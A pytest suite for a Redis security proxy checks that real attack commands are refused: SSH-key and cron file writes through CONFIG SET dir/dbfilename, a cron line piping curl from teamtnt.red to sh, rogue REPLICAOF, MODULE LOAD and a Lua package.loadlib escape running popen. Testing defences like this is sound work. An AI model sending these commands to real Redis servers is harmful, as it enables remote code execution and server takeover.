"""`network protect redis` in front of a real redis-server, driven by real clients (redis-py,
redis-cli, raw sockets). The server runs with `enable-protected-configs`, `enable-debug-command`
and `enable-module-command` on, so it would obey every attack the proxy lets through: each
refusal is proven by the server's own state (CONFIG GET dir, INFO replication, MODULE LIST, files
on disk), and a direct control shows the server accepting what the proxy refused."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import redis
from redis.exceptions import NoPermissionError

from cloudward.network.redis_policy import hash_password, load_policy
from cloudward.store import Store
from tests.harness.services import Service, free_port, start_process
from tests.network.redis_harness import InProcessProxy, exchange, pong, protected_server, resp

pytestmark = pytest.mark.services

CLOUDWARD = Path(sys.executable).parent / "cloudward"
PASSWORD = "proxy-secret-7f3a9c"  # the test's own throwaway password
SSH_KEY = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7teamtnt hilde@teamtnt.red"


@pytest.fixture(scope="module")
def server() -> Iterator[Service]:
    with protected_server() as service:
        yield service


@pytest.fixture
def direct(server: Service) -> Iterator[redis.Redis]:
    client = redis.Redis(host=server.host, port=server.port, socket_timeout=5)
    yield client
    client.close()


@pytest.fixture(params=["shared", "dedicated"])
def proxy(request: pytest.FixtureRequest, server: Service, tmp_path: Path) -> Iterator[InProcessProxy]:
    """Both ways a client can reach the server: a shared connection it leaves at its first command
    that needs one of its own (the default), and one of its own from the start."""
    policy = None
    if request.param == "dedicated":
        policy = tmp_path / "dedicated.yaml"
        policy.write_text("shared_connections: 0\n")
    running = InProcessProxy(f"{server.host}:{server.port}", policy_path=policy)
    yield running
    running.close()


# --- the rules, as data ------------------------------------------------------------------------------

# rule -> (a command it refuses or reports, a close one it lets through)
RULE_CASES = {
    "network.redis_proxy.config_set_file_location": (["CONFIG", "SET", "maxmemory", "1", "DBFILENAME", "root"],
                                                     ["CONFIG", "SET", "maxmemory", "1"]),
    "network.redis_proxy.config_set_security_setting": (["config", "set", "protected-mode", "no"],
                                                        ["config", "get", "protected-mode"]),
    "network.redis_proxy.replication_command": (["REPLICAOF", "203.0.113.7", "8886"], ["ROLE"]),
    "network.redis_proxy.module_load": (["MODULE", "LoadEx", "/tmp/exp.so"], ["MODULE", "LIST"]),
    "network.redis_proxy.debug_command": (["debug", "segfault"], ["ECHO", "debug"]),
    "network.redis_proxy.lua_sandbox_escape": (["EVAL", "return package.loadlib('x.so', 'luaopen_io')", "0"],
                                               ["EVAL", "return redis.call('GET', KEYS[1])", "1", "package"]),
    "network.redis_proxy.script_admin_command": (["FUNCTION", "LOAD", "#!lua name=x\nredis.pcall( 'Config', 'set')"],
                                                 ["FUNCTION", "LOAD", "#!lua name=x\nredis.call('get', 'config')"]),
}


@pytest.mark.parametrize("rule_id", sorted(RULE_CASES))
def test_each_rule_fires_on_its_attack_and_not_on_its_neighbour(rule_id):
    policy = load_policy(None)
    positive, negative = ([a.encode() for a in args] for args in RULE_CASES[rule_id])
    assert rule_id in [v.rule.id for v in policy.judge(positive[0].lower(), positive)]
    assert rule_id not in [v.rule.id for v in policy.judge(negative[0].lower(), negative)]


def test_every_rule_is_complete_and_covered():
    from cloudward.core.attack import unknown_techniques
    from cloudward.network.redis_policy import builtin_rules

    rules = builtin_rules()
    for rule in rules:
        assert rule.references and rule.attack and not unknown_techniques(rule.attack), rule.id
    judged = {r.id for r in rules if r.match["kind"] != "event"}
    assert judged == set(RULE_CASES)  # events are covered by the proxy tests below


def test_policy_files_are_validated_with_the_field_named(tmp_path: Path):
    from cloudward.network.redis_policy import PolicyError

    def load(text: str):
        path = tmp_path / "policy.yaml"
        path.write_text(text)
        return load_policy(path)

    policy = load("rules:\n  network.redis_proxy.debug_command: off\n"  # YAML reads `off` as false: still "off"
                  "  network.redis_proxy.config_set_security_setting: block\ndeny_commands: [FLUSHALL]\n")
    assert policy.actions["network.redis_proxy.debug_command"] == "off" and b"flushall" in policy.deny
    assert policy.judge(b"debug", [b"DEBUG", b"SLEEP", b"0"]) == []
    for text, problem in (("rules:\n  network.redis_proxy.nope: block\n", "unknown rule ids network.redis_proxy.nope"),
                          ("rules:\n  network.redis_proxy.auth_failed: off\n", "always enforced"),
                          ("require_auth:\n  password_sha256: hunter2\n", "require_auth.password_sha256"),
                          ("rename_commands: {config: get, get: x}\n", "new names must be distinct"),
                          ("limits: {max_bulk_bytes: 0}\n", "limits.max_bulk_bytes"),
                          ("surprise: 1\n", "surprise: Extra inputs"), ("- a list\n", "must be a mapping"),
                          ("a: [\n", "not valid YAML")):
        with pytest.raises(PolicyError, match=problem) as caught:
            load(text)
        assert str(tmp_path / "policy.yaml") in str(caught.value) and "hunter2" not in str(caught.value)


def test_cli_hashes_a_password_and_checks_a_policy(tmp_path: Path):
    from typer.testing import CliRunner

    from cloudward.cli.app import app

    hashed = CliRunner().invoke(app, ["network", "protect", "redis", "--hash-password"], input="s3cret\n")
    assert hashed.exit_code == 0 and hashed.stdout.strip() == hash_password("s3cret")
    policy = tmp_path / "policy.yaml"
    policy.write_text(f"require_auth:\n  password_sha256: {hashed.stdout.strip()}\n")
    checked = CliRunner().invoke(app, ["network", "protect", "redis", "--policy", str(policy), "--check"])
    assert checked.exit_code == 0 and "AUTH required at the proxy" in checked.output


# --- normal traffic ------------------------------------------------------------------------------


def test_real_clients_get_normal_answers(proxy: InProcessProxy, direct: redis.Redis, server: Service):
    direct.flushall()  # (the server is the module's: the other way of connecting ran first)
    client = proxy.client()
    assert client.set("k:plain", "v1") and client.get("k:plain") == b"v1"
    pipe = client.pipeline(transaction=False)
    for i in range(500):
        pipe.set(f"k:{i}", i)
        pipe.incr(f"k:{i}")
    assert pipe.execute() == [x for i in range(500) for x in (True, i + 1)]
    with client.pipeline(transaction=True) as tx:  # MULTI/EXEC
        tx.set("k:tx", "a").append("k:tx", "b").get("k:tx")
        assert tx.execute() == [True, 2, b"ab"]
    big = os.urandom(3 * 1024 * 1024)  # arrives over many reads: the parser's slow path
    client.set("k:big", big)
    assert direct.get("k:big") == big and client.get("k:big") == big
    assert client.config_get("dir") == direct.config_get("dir")  # reading a setting is fine
    resp3 = proxy.client(protocol=3)  # HELLO 3 goes through
    assert resp3.hset("k:h", mapping={"a": "1"}) == 1 and resp3.hgetall("k:h") == {b"a": b"1"}
    inline = exchange(proxy.port, b"SET k:inline \"two words\"\r\nGET k:inline\r\n", expect_replies=2)
    assert inline == b"+OK\r\n$9\r\ntwo words\r\n"
    mass = "".join(f"SET k:mass:{i} {i}\r\n" for i in range(2000)).encode()
    done = subprocess.run(["redis-cli", "-p", str(proxy.port), "--pipe"], input=mass, capture_output=True, timeout=30)
    assert b"errors: 0, replies: 2000" in done.stdout, done.stdout + done.stderr
    bench = subprocess.run(["redis-benchmark", "-p", str(proxy.port), "-t", "set,get", "-n", "2000", "-P", "16",
                            "-c", "4", "-q"], capture_output=True, text=True, timeout=60)
    assert bench.returncode == 0 and "GET:" in bench.stdout and "SET:" in bench.stdout
    assert proxy.findings == []  # nothing of that is an attack


def test_pipelined_refusals_answer_in_place(proxy: InProcessProxy, direct: redis.Redis):
    payload = (resp("SET", "k:order", "1") + resp("CONFIG", "SET", "dir", "/tmp") + resp("GET", "k:order")
               + resp("SLAVEOF", "127.0.0.1", "1") + resp("PING") + resp("DEBUG", "SLEEP", "0")
               + resp("DEBUG", "SLEEP", "0") + resp("INCR", "k:order"))
    replies = exchange(proxy.port, payload, expect_replies=8)
    lines = replies.split(b"\r\n")
    assert lines[0] == b"+OK"
    assert lines[1].startswith(b"-NOPERM cloudward proxy: config|set dir is blocked")
    assert lines[2:4] == [b"$1", b"1"]
    assert lines[4].startswith(b"-NOPERM") and b"slaveof" in lines[4]
    assert lines[5] == b"+PONG"
    assert lines[6].startswith(b"-NOPERM") and lines[7].startswith(b"-NOPERM")  # two refusals in a row
    assert lines[8] == b":2"
    # redis-py's own pipeline sees the same order
    pipe = proxy.client().pipeline(transaction=False)
    pipe.get("k:order").config_set("dir", "/tmp").get("k:order")
    got = pipe.execute(raise_on_error=False)
    assert got[0] == b"2" and isinstance(got[1], redis.ResponseError) and got[2] == b"2"
    assert direct.info("replication")["role"] == "master"
    # CLIENT REPLY SKIP: the client asked not to hear about the next command, refused or not
    skipped = exchange(proxy.port, resp("SET", "k:skip", "1") + resp("CLIENT", "REPLY", "SKIP")
                       + resp("SLAVEOF", "127.0.0.1", "1") + resp("PING"), expect_replies=2)
    assert skipped == b"+OK\r\n+PONG\r\n"


def test_a_refused_command_aborts_its_transaction(proxy: InProcessProxy, direct: redis.Redis):
    payload = resp("MULTI") + resp("SET", "k:multi", "x") + resp("MODULE", "LOAD", "/tmp/exp.so") + resp("EXEC")
    replies = exchange(proxy.port, payload, expect_replies=4).split(b"\r\n")
    assert replies[0:2] == [b"+OK", b"+QUEUED"]
    assert replies[2].startswith(b"-NOPERM cloudward proxy: module|load")
    assert replies[3].startswith(b"-EXECABORT")  # as redis does for a command refused at queue time
    assert direct.get("k:multi") is None


def test_push_modes_pass_through_and_stay_guarded(proxy: InProcessProxy, direct: redis.Redis):
    """SUBSCRIBE and MONITOR streams are relayed as they come; commands sent in those modes are still
    judged, and a refusal still lands in its place among the pushed messages."""
    pubsub = proxy.client().pubsub()
    pubsub.subscribe("news")
    assert pubsub.get_message(timeout=5)["type"] == "subscribe"
    assert direct.publish("news", "hello") == 1
    assert pubsub.get_message(timeout=5)["data"] == b"hello"
    pubsub.close()
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=5) as sock:
        sock.sendall(resp("SUBSCRIBE", "ch") + resp("CONFIG", "SET", "dir", "/tmp") + resp("PING"))
        data = b""
        while not data.endswith(b"$4\r\npong\r\n$0\r\n\r\n"):
            data += sock.recv(4096)
        assert data.startswith(b"*3\r\n$9\r\nsubscribe\r\n$2\r\nch\r\n:1\r\n-NOPERM cloudward proxy: config|set dir")
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=5) as sock:
        sock.sendall(resp("MONITOR"))
        assert sock.recv(64) == b"+OK\r\n"
        direct.set("k:monitored", "1")
        seen = b""
        while b"k:monitored" not in seen:
            seen += sock.recv(4096)
        sock.sendall(resp("DEBUG", "SLEEP", "0"))
        while b"NOPERM" not in seen:
            seen += sock.recv(4096)
    assert direct.config_get("dir")["dir"] != "/tmp"


# --- the attacks -----------------------------------------------------------------------------------


def test_teamtnt_file_write_and_rogue_master_are_refused(proxy: InProcessProxy, direct: redis.Redis,
                                                         server: Service, tmp_path: Path):
    ssh_dir = tmp_path / "ssh"
    ssh_dir.mkdir()
    original = direct.config_get("dir")["dir"]
    # control: the server itself would accept it
    assert direct.config_set("dir", str(ssh_dir)) and direct.config_set("dir", original)
    client = proxy.client()
    for args in (("dir", str(ssh_dir)), ("DIR", str(ssh_dir)), ("dbfilename", "authorized_keys")):
        with pytest.raises(NoPermissionError, match="cloudward proxy: config\\|set"):
            client.config_set(*args)
    with pytest.raises(NoPermissionError, match="blocked"):  # hidden among other pairs
        client.execute_command("CONFIG", "SET", "maxmemory", "0", "DbFileName", "authorized_keys")
    with pytest.raises(NoPermissionError, match="blocked"):  # inline, lower case
        client.execute_command("config set dir " + str(ssh_dir))
    assert b"NOPERM" in exchange(proxy.port, f"config set dir {ssh_dir}\r\n".encode(), expect_replies=1)
    assert client.set("x", "\n\n" + SSH_KEY + "\n\n")
    assert client.save()  # harmless now: the dump goes where it always went
    assert direct.config_get("dir")["dir"] == original
    assert direct.config_get("dbfilename")["dbfilename"] == "dump.rdb"
    assert list(ssh_dir.iterdir()) == []
    for command in (("SLAVEOF", "127.0.0.1", "6390"), ("replicaof", "127.0.0.1", "6390"),
                    ("ReplicaOf", "no", "one"), ("MODULE", "LOAD", "/tmp/exp.so"), ("module", "loadex", "/x.so"),
                    ("DEBUG", "SET-ACTIVE-EXPIRE", "0"), ("SYNC",)):
        with pytest.raises(NoPermissionError):
            client.execute_command(*command)
    assert direct.info("replication")["role"] == "master"
    assert direct.execute_command("MODULE", "LIST") == []
    assert client.execute_command("MODULE", "LIST") == []  # the harmless subcommand passes
    proxy.wait_for(lambda: len(proxy.findings) >= 13, "13 findings")
    found = {f.rule_id for f in proxy.findings}
    assert {"network.redis_proxy.config_set_file_location", "network.redis_proxy.replication_command",
            "network.redis_proxy.module_load", "network.redis_proxy.debug_command"} <= found
    rogue = next(f for f in proxy.findings if f.rule_id == "network.redis_proxy.replication_command")
    assert rogue.evidence["arguments"][:2] == ["127.0.0.1", "6390"] and rogue.evidence["action"] == "block"
    assert rogue.target.name == f"redis://{server.host}:{server.port}" and rogue.attack
    assert any(line.startswith(tuple("0123456789")) and " block network.redis_proxy.config_set_file_location "
               in line for line in proxy.lines)


def test_settings_that_are_not_dangerous_pass_and_security_settings_are_reported(
        proxy: InProcessProxy, direct: redis.Redis):
    client = proxy.client()
    assert client.config_set("maxmemory-policy", "allkeys-lru")
    assert direct.config_get("maxmemory-policy")["maxmemory-policy"] == "allkeys-lru"
    direct.config_set("maxmemory-policy", "noeviction")
    assert client.config_set("masterauth", "s3cret-value")  # alert only, by default: forwarded
    assert direct.config_get("masterauth")["masterauth"] == "s3cret-value"
    direct.config_set("masterauth", "")
    proxy.wait_for(lambda: proxy.findings, "the alert")
    (alert,) = proxy.findings
    assert alert.rule_id == "network.redis_proxy.config_set_security_setting"
    assert alert.evidence["action"] == "alert"
    assert alert.evidence["arguments"] == ["masterauth", "<redacted>"]
    assert "s3cret-value" not in json.dumps(alert.to_contract()) + "\n".join(proxy.lines)


def test_lua_sandbox_escapes_and_admin_calls_in_scripts(proxy: InProcessProxy, direct: redis.Redis):
    client = proxy.client()
    assert client.eval("return redis.call('set', KEYS[1], ARGV[1])", 1, "k:lua", "v") == b"OK"
    assert client.eval("return redis.call(ARGV[1], KEYS[1])", 1, "k:lua", "get") == b"v"  # dynamic, harmless
    escape = ('local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); '
              'local io = io_l(); local f = io.popen("id", "r"); return f:read("*a")')
    for attempt in (lambda: client.eval(escape, 0), lambda: client.script_load(escape),
                    lambda: client.eval("return redis.call('CONFIG', 'SET', 'dir', '/tmp')", 0),
                    lambda: client.eval("return redis.call(ARGV[1], ARGV[2], ARGV[3])", 0, "config", "get", "dir"),
                    lambda: client.function_load(
                        "#!lua name=evil\nredis.register_function('f', function() "
                        "return redis.call('slaveof', '127.0.0.1', '1') end)")):
        with pytest.raises(NoPermissionError):
            attempt()
    assert direct.function_list() == []
    proxy.wait_for(lambda: len(proxy.findings) >= 5, "5 findings")
    assert proxy.rule_ids().count("network.redis_proxy.lua_sandbox_escape") == 2
    assert proxy.rule_ids().count("network.redis_proxy.script_admin_command") == 3


# --- authentication at the proxy -----------------------------------------------------------------------


def test_auth_required_at_the_proxy_when_the_server_has_none(server: Service, direct: redis.Redis, tmp_path: Path):
    policy = tmp_path / "policy.yaml"
    policy.write_text(f"require_auth:\n  password_sha256: {hash_password(PASSWORD)}\n")
    running = InProcessProxy(f"{server.host}:{server.port}", policy)
    try:
        assert direct.ping()  # the server itself asks for nothing
        assert exchange(running.port, resp("PING") + resp("CONFIG", "GET", "dir"), expect_replies=2) == \
            b"-NOAUTH Authentication required.\r\n" * 2
        with pytest.raises(redis.AuthenticationError):
            running.client().get("k")
        with pytest.raises(redis.AuthenticationError):
            running.client(password="guess-Zq81").get("k")
        client = running.client(password=PASSWORD)
        assert client.set("k:auth", "yes") and client.get("k:auth") == b"yes"
        assert running.client(password=PASSWORD, protocol=3).get("k:auth") == b"yes"  # HELLO 3 AUTH
        # AUTH then a value beyond the unauthenticated limits, pipelined in one write
        value = b"z" * 50_000
        got = exchange(running.port, resp("AUTH", PASSWORD) + resp("SET", "k:big", value) + resp("STRLEN", "k:big"),
                       expect_replies=3)
        assert got == b"+OK\r\n+OK\r\n:50000\r\n"
        big = exchange(running.port, resp("SET", "k:big", value), expect_replies=1)  # before AUTH: too big
        assert big.startswith(b"-ERR Protocol error: bulk length 50000 exceeds")
        after_reset = exchange(running.port, resp("AUTH", PASSWORD) + resp("RESET") + resp("GET", "k:auth"),
                               expect_replies=3)
        assert after_reset == b"+OK\r\n+RESET\r\n-NOAUTH Authentication required.\r\n"
        running.wait_for(lambda: "network.redis_proxy.auth_failed" in running.rule_ids(), "auth_failed")
        running.wait_for(lambda: "network.redis_proxy.unauthenticated_command" in running.rule_ids(), "noauth")
        recorded = json.dumps([f.to_contract() for f in running.findings]) + "\n".join(running.lines)
        assert PASSWORD not in recorded
        assert "guess-Zq81" not in recorded
    finally:
        running.close()


def test_allow_list_and_renamed_commands(server: Service, direct: redis.Redis, tmp_path: Path):
    policy = tmp_path / "policy.yaml"
    policy.write_text("allow_commands: [get, set, ping, config]\nrename_commands: {config: cfg-9x}\n")
    running = InProcessProxy(f"{server.host}:{server.port}", policy)
    try:
        client = running.client()
        assert client.set("k:allow", "1") and client.get("k:allow") == b"1"
        with pytest.raises(NoPermissionError, match="'incr' is not on the policy's allow list"):
            client.execute_command("INCR", "k:allow")
        assert direct.get("k:allow") == b"1"
        maxmemory = direct.config_get("maxmemory")["maxmemory"].encode()
        got = client.execute_command("cfg-9x", "GET", "maxmemory")  # a map in RESP3, a list in RESP2
        assert got in ({b"maxmemory": maxmemory}, [b"maxmemory", maxmemory])
        with pytest.raises(redis.ResponseError, match="unknown command 'CONFIG'"):
            client.config_get("dir")
        with pytest.raises(NoPermissionError, match="config\\|set dir is blocked"):  # renamed, still judged
            client.execute_command("cfg-9x", "SET", "dir", str(tmp_path))
        expected = {"network.redis_proxy.command_not_allowed", "network.redis_proxy.config_set_file_location",
                    "network.redis_proxy.denied_command"}  # (redis-py's CLIENT SETINFO is not allowed either)
        running.wait_for(lambda: set(running.rule_ids()) == expected, "the three findings")
    finally:
        running.close()


# --- hostile input -----------------------------------------------------------------------------------------


def test_hostile_frames_close_only_their_own_connection(proxy: InProcessProxy):
    bystander = proxy.client(single_connection_client=True)
    assert bystander.set("k:by", "1")
    huge = exchange(proxy.port, b"*1\r\n$1099511627776\r\n" + b"A" * 65536)
    assert huge == b"-ERR Protocol error: bulk length 1099511627776 exceeds the limit of 67108864 bytes " \
                   b"(cloudward proxy)\r\n"  # then the proxy closed the connection
    for garbage in (b"*2\r\n+GET\r\n:1\r\n", b"*abc\r\n", b"*1\r\n$3\r\nGETxx", b"GET 'unbalanced\r\n",
                    b"\x00\x01\x02\xff" * 10 + b"\r\n"):
        reply = exchange(proxy.port, resp("PING") + garbage)
        assert reply.startswith(b"+PONG\r\n-ERR Protocol error: "), (garbage, reply)
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=5) as sock:  # a frame in 1-byte reads
        for byte in resp("SET", "k:slow", "v"):
            sock.sendall(bytes([byte]))
        assert sock.recv(16) == b"+OK\r\n"
    assert bystander.get("k:by") == b"1"  # untouched by any of it
    proxy.wait_for(lambda: proxy.rule_ids().count("network.redis_proxy.protocol_violation") == 6, "6 violations")
    assert proxy.proxy.stats.protocol_errors == 6


def test_policy_reload_changes_decisions_without_dropping_connections(server: Service, tmp_path: Path):
    policy = tmp_path / "policy.yaml"
    policy.write_text("deny_commands: [flushall]\n")
    running = InProcessProxy(f"{server.host}:{server.port}", policy, watch_interval=0.05)
    try:
        client = running.client(single_connection_client=True)
        client_id = client.client_id()
        assert client.echo("before") == b"before"
        policy.write_text("deny_commands: [flushall, echo]\nrules:\n  network.redis_proxy.debug_command: alert\n")
        running.wait_for(lambda: running.proxy.stats.reloads == 1, "the file change noticed")
        with pytest.raises(NoPermissionError, match="cloudward proxy: 'echo' is denied by the policy"):
            client.echo("after")
        assert client.client_id() == client_id  # the same connection, still open
        policy.write_text("deny_commands: [flushall\n")  # broken: the policy in force stays
        running.wait_for(lambda: running.proxy.stats.reload_errors == 1, "the broken file refused")
        assert not running.call(lambda: running.proxy.reload("test"))  # as a SIGHUP would
        with pytest.raises(NoPermissionError, match="denied"):
            client.echo("still")
        assert any("failed, the previous policy stays in force" in line and str(policy) in line
                   for line in running.lines)
    finally:
        running.close()


def test_upstream_down_gets_a_resp_error():
    port = free_port()  # nothing listens there
    running = InProcessProxy(f"127.0.0.1:{port}")
    try:
        reply = exchange(running.port, resp("PING"))
        assert reply == (f"-ERR cloudward proxy: upstream Redis at 127.0.0.1:{port} is unavailable "
                         "(Connection refused)\r\n").encode()
        assert running.proxy.stats.refused_connections == 1 and running.proxy.stats.forwarded == 0
    finally:
        running.close()


def test_without_uvloop_the_same_answers(server: Service):
    running = InProcessProxy(f"{server.host}:{server.port}", plain_asyncio=True)
    try:
        replies = exchange(running.port, resp("SET", "k:plain-loop", "1") + resp("DEBUG", "SLEEP", "0")
                           + resp("GET", "k:plain-loop"), expect_replies=3).split(b"\r\n")
        assert replies[0] == b"+OK" and replies[1].startswith(b"-NOPERM") and replies[2:4] == [b"$1", b"1"]
        assert exchange(running.port, b"*1\r\n$1099511627776\r\n").startswith(b"-ERR Protocol error: bulk length")
        assert running.client().get("k:plain-loop") == b"1"
    finally:
        running.close()


# --- the real command -------------------------------------------------------------------------------------------


def test_cli_proxy_blocks_the_attack_records_findings_and_reloads_on_sighup(server: Service, direct: redis.Redis,
                                                                             tmp_path: Path):
    env = {**os.environ, "CLOUDWARD_DATA_DIR": str(tmp_path / "data"), "CLOUDWARD_DB_URL": "",
           "CLOUDWARD_CONFIG": str(tmp_path / "no-such.toml")}
    policy = tmp_path / "policy.yaml"
    policy.write_text("deny_commands: [flushall]\n")
    target = tmp_path / "cron"
    target.mkdir()
    original = direct.config_get("dir")["dir"]
    cli = start_process("redis-protect", lambda s: [
        CLOUDWARD, "network", "protect", "redis", "--listen", f"127.0.0.1:{s.port}",
        "--upstream", f"{server.host}:{server.port}", "--policy", str(policy), "--no-watch-policy"],
        env=env, ready=pong)
    try:
        port = str(cli.port)
        attack = [["CONFIG", "SET", "dir", str(target)], ["CONFIG", "SET", "dbfilename", "root"],
                  ["SET", "x", "\n*/1 * * * * curl -fsSL http://teamtnt.red/x | sh\n"], ["SAVE"]]
        outputs = [subprocess.run(["redis-cli", "-p", port, *a], capture_output=True, text=True, timeout=10).stdout
                   for a in attack]
        assert outputs[0].startswith("NOPERM") and outputs[1].startswith("NOPERM")
        assert outputs[2].strip() == "OK" and outputs[3].strip() == "OK"
        assert direct.config_get("dir")["dir"] == original and list(target.iterdir()) == []
        echo = ["redis-cli", "-p", port, "ECHO", "hi"]
        assert subprocess.run(echo, capture_output=True, text=True, timeout=10).stdout.strip() == "hi"
        policy.write_text("deny_commands: [flushall, echo]\n")
        os.kill(cli.pid, signal.SIGHUP)
        deadline = time.monotonic() + 10
        while "policy reloaded (SIGHUP)" not in cli.log_tail():
            assert time.monotonic() < deadline, cli.log_tail()
            time.sleep(0.05)
        assert subprocess.run(echo, capture_output=True, text=True, timeout=10).stdout.startswith("NOPERM")
    finally:
        cli.stop()  # SIGTERM: a clean stop
    assert cli.process is not None and cli.process.returncode == 0, cli.log_tail()
    log = cli.log_tail(100)
    assert "block network.redis_proxy.config_set_file_location" in log and "redis proxy stopped" in log
    with Store.open(f"sqlite:///{tmp_path / 'data' / 'cloudward.db'}") as store:
        stored = store.list_findings()
    details = {(f.finding.rule_id, f.finding.evidence.get("detail")) for f in stored}
    assert ("network.redis_proxy.config_set_file_location", "config|set dir") in details
    assert ("network.redis_proxy.config_set_file_location", "config|set dbfilename") in details
    assert ("network.redis_proxy.denied_command", "echo") in details


def test_cli_refuses_to_start_without_a_usable_policy(tmp_path: Path):
    bad = tmp_path / "policy.yaml"
    bad.write_text("require_auth:\n  password_sha256: hunter2\n")  # a password, not its hash
    runs = [(subprocess.Popen([CLOUDWARD, "network", "protect", "redis", "--policy", str(policy), "--listen",
                               f"127.0.0.1:{free_port()}"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True),
             message) for policy, message in ((tmp_path / "missing.yaml", "cannot read the policy"),
                                              (bad, "64 hex digits"))]
    for process, message in runs:
        _, stderr = process.communicate(timeout=30)
        assert process.returncode == 2 and message in stderr, stderr
        assert "hunter2" not in stderr


def test_uniform_pipelines_pass_whole_and_a_refusal_among_them_answers_in_place(proxy: InProcessProxy,
                                                                                 direct: redis.Redis):
    """A read of same-arity commands is judged in one pass (resp.uniform_names): all allowed, it is
    forwarded whole; one refused command of the same arity sends the read through the exact path."""
    before = proxy.proxy.stats.forwarded
    plain = b"".join(resp("SET", f"k:uni:{i}", str(i)) for i in range(16))
    assert exchange(proxy.port, plain, expect_replies=16) == b"+OK\r\n" * 16
    assert proxy.proxy.stats.forwarded - before == 16 and direct.get("k:uni:15") == b"15"
    mixed = (b"".join(resp("SET", f"k:uni:{i}", "x") for i in range(3)) + resp("SLAVEOF", "127.0.0.1", "1")
             + resp("SET", "k:uni:9", "y"))
    replies = exchange(proxy.port, mixed, expect_replies=5).split(b"\r\n")
    assert replies[:3] == [b"+OK"] * 3 and replies[3].startswith(b"-NOPERM") and b"slaveof" in replies[3]
    assert replies[4] == b"+OK" and direct.get("k:uni:9") == b"y"
    assert direct.info("replication")["role"] == "master"
    proxy.wait_for(lambda: "network.redis_proxy.replication_command" in proxy.rule_ids(), "the refusal's finding")
